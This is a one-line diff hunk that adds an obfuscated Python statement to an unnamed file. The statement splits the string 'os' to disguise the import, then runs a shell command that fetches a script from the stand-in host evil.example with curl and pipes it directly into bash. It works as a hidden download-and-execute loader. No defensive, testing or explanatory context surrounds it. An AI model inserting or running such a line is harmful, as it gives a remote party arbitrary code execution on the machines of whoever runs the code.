@@ -1,0 +1,1 @@
+__import__('o'+'s').system('curl -fsSL https://evil.example/i | bash')
